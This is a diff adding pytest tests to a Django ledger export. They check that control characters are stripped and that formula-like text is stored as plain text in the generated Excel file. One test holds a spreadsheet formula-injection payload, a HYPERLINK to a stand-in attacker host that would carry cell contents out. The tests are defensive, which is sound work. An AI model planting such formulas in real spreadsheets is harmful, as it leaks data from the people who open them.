@@ -4,6 +4,7 @@ import io
 from datetime import datetime
 
 import pytest
+from django.db import connection
 from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
@@ -109,3 +110,44 @@ def test_the_ledger_page_of_a_chosen_region_carries_the_filters_to_the_download(
     assert f"{expected}?region={COMMUNITY}&amp;light=green" in response.content.decode()
     outside = client.get(reverse("workbench:ledger"), {"region": "410103"})
     assert outside.status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("code", "reader"),
+    [
+        (COMMUNITY, "community_desk"),
+        ("410102001", "township_desk"),
+        ("410100", "leader"),
+    ],
+)
+def test_a_nul_byte_in_an_old_description_does_not_break_the_ledger(
+    client, tree, people, code, reader
+):
+    case = file_case(tree)
+    # An old row from before intake refused control characters (PostgreSQL stores no NUL).
+    nul = "\x00" if connection.vendor == "sqlite" else ""
+    Case.objects.filter(pk=case.pk).update(description=f"堆满{nul}杂物\x07\x1b")
+    english(client, getattr(people, reader))
+
+    response = download(client, code)
+
+    assert response.status_code == 200
+    assert sheet_rows(response)[0]["Description"] == "堆满杂物"
+
+
+def test_text_starting_like_a_formula_is_written_as_text(client, tree, people):
+    injected = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    case = file_case(tree, address="@SUM(1+1)")
+    Case.objects.filter(pk=case.pk).update(description=injected)
+    english(client, people.community_desk)
+
+    response = download(client, COMMUNITY)
+
+    book = load_workbook(io.BytesIO(response.content))
+    sheet = book.worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    row = sheet[2]
+    description = row[header.index("Description")]
+    address = row[header.index("Address")]
+    assert (description.value, description.data_type) == (injected, "s")
+    assert (address.value, address.data_type) == ("@SUM(1+1)", "s")
